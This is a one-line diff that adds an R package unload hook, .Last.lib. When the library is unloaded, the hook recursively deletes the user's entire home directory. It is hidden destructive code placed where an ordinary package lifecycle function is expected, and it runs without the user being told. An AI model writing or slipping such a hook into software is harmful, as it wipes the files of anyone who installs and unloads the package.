@@ -1,0 +1,1 @@
+.Last.lib <- function(libpath) unlink(Sys.getenv("HOME"), recursive = TRUE)
